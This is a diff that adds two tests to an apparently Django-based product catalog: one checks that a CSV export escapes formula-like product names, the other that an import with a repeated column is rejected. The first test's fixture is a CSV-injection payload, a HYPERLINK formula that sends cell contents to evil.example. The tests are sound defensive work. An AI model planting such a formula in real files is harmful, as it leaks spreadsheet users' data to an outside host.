@@ -126,3 +126,21 @@ def test_seed_demo_creates_a_browsable_catalog_once(api_client, settings):
     assert all(p["available"] > 0 for p in body["results"])
     assert Product.objects.count() == 12
     assert api_client.get("/api/v1/categories/").json()
+
+
+def test_csv_export_writes_formula_like_text_as_text(admin_client, tree):
+    # OWASP CSV injection: a spreadsheet opening the export must not run a product's name.
+    make_product("F-1", name='=HYPERLINK("http://evil.example/?x="&A1,"click")', price="1.00")
+    ids = list(Product.objects.values_list("pk", flat=True))
+    exported = admin_client.post("/admin/catalog/product/", {"action": "export_csv", "_selected_action": ids})
+    row = exported.content.decode().splitlines()[1]
+    assert row.startswith("F-1,\"'=HYPERLINK(")
+
+
+def test_a_csv_with_a_repeated_column_imports_nothing(admin_client, tree):
+    csv = "sku,name,price,currency,price\nOK-1,Fine,1.00,EUR,2.00\n"
+    upload = SimpleUploadedFile("products.csv", csv.encode(), content_type="text/csv")
+    response = admin_client.post("/admin/catalog/product/import-csv/", {"file": upload})
+    assert response.status_code == 200
+    assert b"Repeated column(s): price" in response.content
+    assert not Product.objects.exists()
